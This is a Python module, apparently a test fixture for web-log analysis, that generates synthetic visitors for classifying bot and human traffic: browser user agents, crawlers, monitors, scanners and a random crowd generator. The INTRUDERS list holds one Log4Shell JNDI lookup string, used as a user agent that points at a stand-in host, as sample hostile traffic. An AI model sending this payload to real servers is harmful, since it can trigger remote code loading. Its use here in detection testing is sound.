"""Who comes. A visitor is an address and a user agent; no two visitors share both.

Every address lies in a range reserved for documentation, benchmarks or carrier-grade NAT.
"""

from random import Random
from typing import NamedTuple

PERSON, ROBOT = "person", "robot"
# What a robot is known by. Whoever is known by several counts as the first of them.
ROLES = MONITOR, TOOL, CRAWLER, EMPTY, ROBOTS_TXT, PROBE, BEHAVIOUR = (
    "monitor",
    "tool",
    "crawler",
    "empty",
    "robots_txt",
    "probe",
    "behaviour",
)


class Visitor(NamedTuple):
    address: str
    agent: str
    protocol: str = "HTTP/2.0"
    role: str = PERSON

    @property
    def audience(self) -> str:
        return PERSON if self.role == PERSON else ROBOT


# fmt: off
ANDROIDS = ("10; SM-A115M", "11; SM-A125M", "12; SM-A032M", "13; SM-A135M", "11; moto g(30)",
            "12; moto g22", "10; moto e7 plus", "11; M2101K7BL", "12; 2201117TL", "13; SM-S911B",
            "9; LM-X525", "12; V2120", "11; CPH2239", "10; STK-LX3", "13; Pixel 6a")
CHROMES = ("111.0.0.0", "112.0.0.0", "113.0.0.0", "114.0.0.0")
IPHONES = ("15_7", "16_3_1", "16_4_1", "16_5")
WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
IOS_WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
FACEBOOK = "[FB_IAB/FB4A;FBAV/417.0.0.33.65;]"

PHONES = (
    *(f"Mozilla/5.0 (Linux; Android {phone}) {WEBKIT} Chrome/{chrome} Mobile Safari/537.36"
      for phone in ANDROIDS for chrome in CHROMES),
    *(f"Mozilla/5.0 (Linux; Android {phone}; wv) {WEBKIT} Version/4.0 Chrome/113.0.5672.162 "
      f"Mobile Safari/537.36 {FACEBOOK}" for phone in ANDROIDS[:8]),
    *(f"Mozilla/5.0 (Linux; Android {phone}) {WEBKIT} SamsungBrowser/21.0 Chrome/110.0.5481.154 "
      "Mobile Safari/537.36" for phone in ANDROIDS[:4]),
    *(f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) {IOS_WEBKIT} "
      f"Version/{ios[:2]}.0 Mobile/15E148 Safari/604.1" for ios in IPHONES),
    *(f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) {IOS_WEBKIT} Mobile/20F66 "
      f"[FBAN/FBIOS;FBDV/{model};FBMD/iPhone;FBSN/iOS;FBSV/{ios.replace('_', '.')};FBLC/es_LA]"
      for ios, model in (("16_5", "iPhone13,2"), ("15_7", "iPhone10,1"))),
)
DESKTOPS = (
    *(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/{chrome} Safari/537.36"
      for chrome in CHROMES),
    *(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/{chrome} Safari/537.36 "
      f"Edg/{chrome[:3]}.0.1823.37" for chrome in CHROMES[1:]),
    *(f"Mozilla/5.0 ({system}; rv:{version}) Gecko/20100101 Firefox/{version}"
      for system in ("Windows NT 10.0; Win64; x64", "X11; Ubuntu; Linux x86_64",
                     "Macintosh; Intel Mac OS X 10.15")
      for version in ("112.0", "113.0")),
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {IOS_WEBKIT} Version/16.4 Safari/605.1.15",
    f"Mozilla/5.0 (Windows NT 6.1; Win64; x64) {WEBKIT} Chrome/109.0.0.0 Safari/537.36",
)
# fmt: on
PERSON_AGENTS = PHONES + DESKTOPS

ODD_TABLET = r"Mozilla/5.0 (Linux; Android 10; Tablet 10\" Kids) AppleWebKit/537.36 Chrome/112.0"
LATIN1_PHONE = "Mozilla/5.0 (Linux; Android 9; M\udcf3vil) AppleWebKit/537.36 Chrome/99.0"  # raw F3

# fmt: off
CRAWLERS = {
    "googlebot": Visitor(
        "198.51.100.66",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "HTTP/1.1", CRAWLER),
    "bingbot": Visitor(
        "198.51.100.67",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "HTTP/2.0", CRAWLER),
    "ahrefs": Visitor(
        "198.51.100.68", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "HTTP/1.1", CRAWLER),
    "facebook": Visitor(
        "2001:db8:face::35",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "HTTP/1.1", CRAWLER),
}
UPTIME = Visitor(
    "203.0.113.200",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "HTTP/1.1", MONITOR)
PINGDOM = Visitor(
    "203.0.113.204", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "HTTP/1.1", MONITOR)
HARVESTER = Visitor("203.0.113.201", "python-requests/2.31.0", "HTTP/1.1", TOOL)
FETCHER = Visitor("203.0.113.205", "curl/7.88.1", "HTTP/1.1", TOOL)
RELAY = Visitor("203.0.113.206", "Go-http-client/2.0", "HTTP/2.0", TOOL)
GREEDY = Visitor("203.0.113.120", "python-requests/2.28.2", "HTTP/1.1", TOOL)
# Agents of browsers: only what they do gives them away.
TIRELESS = Visitor("198.51.100.140", DESKTOPS[2], "HTTP/1.1", BEHAVIOUR)  # never loads an asset
HASTY = Visitor("198.51.100.141", DESKTOPS[3], "HTTP/2.0", BEHAVIOUR)  # loads some
# fmt: on
NAMELESS = Visitor("203.0.113.202", "-", "HTTP/1.0", EMPTY)
# A browser behind a carrier's gate, betrayed only by having asked for /robots.txt weeks before.
ARCHIVIST = Visitor("100.64.1.17", DESKTOPS[5], "HTTP/1.1", ROBOTS_TXT)
SCANNERS = [
    Visitor(f"203.0.113.{210 + index}", DESKTOPS[index % len(DESKTOPS)], "HTTP/1.1", PROBE)
    for index in range(12)
]
# Two machines of one network, and what the second calls itself in some of its requests.
INTRUDERS = [
    Visitor("100.127.50.12", DESKTOPS[4], "HTTP/1.1", PROBE),
    Visitor("100.127.50.77", DESKTOPS[7], "HTTP/1.1", PROBE),
    Visitor("100.127.50.77", "${jndi:ldap://x.example/a}", "HTTP/1.1", PROBE),
]
ROBOTS = [
    *CRAWLERS.values(),
    UPTIME,
    PINGDOM,
    HARVESTER,
    FETCHER,
    RELAY,
    GREEDY,
    TIRELESS,
    HASTY,
    NAMELESS,
    ARCHIVIST,
    *SCANNERS,
    *INTRUDERS,
]


CARRIER_GATES = [f"100.64.{n // 4}.{10 + n}" for n in range(40)]  # many persons behind each
CITY_GATES = ("100.64.200.7", "100.65.12.30")  # and very many behind these two


class Crowd:
    """Invents persons, each different from all before."""

    def __init__(self, rng: Random) -> None:
        self._rng = rng
        self._known = {(robot.address, robot.agent) for robot in ROBOTS}

    def newcomer(self) -> Visitor:
        while True:
            address, agent = self._address(), self._agent()
            if (address, agent) not in self._known:
                return self.admit(address, agent)

    def admit(self, address: str, agent: str) -> Visitor:
        if (address, agent) in self._known:
            raise ValueError(f"two visitors with one identity: {address} {agent}")
        self._known.add((address, agent))
        modern = self._rng.random() < 0.8
        return Visitor(address, agent, "HTTP/2.0" if modern else "HTTP/1.1")

    def _address(self) -> str:
        lot = self._rng.random()
        if lot < 0.12:
            return f"2001:db8:{self._pick(64):x}:{self._pick(4096):x}::{1 + self._pick(65000):x}"
        if lot < 0.185:
            return CITY_GATES[self._pick(len(CITY_GATES))]
        if lot < 0.31:
            return CARRIER_GATES[self._pick(len(CARRIER_GATES))]
        if lot < 0.36:
            return f"192.0.2.{30 + self._pick(220)}"
        if lot < 0.55:
            return f"100.{66 + self._pick(60)}.{self._pick(256)}.{1 + self._pick(254)}"
        return f"198.{18 + self._pick(2)}.{self._pick(256)}.{1 + self._pick(254)}"

    def _agent(self) -> str:
        agents = PHONES if self._rng.random() < 0.78 else DESKTOPS
        return agents[self._pick(len(agents))]

    def _pick(self, count: int) -> int:
        return int(self._rng.random() * count)
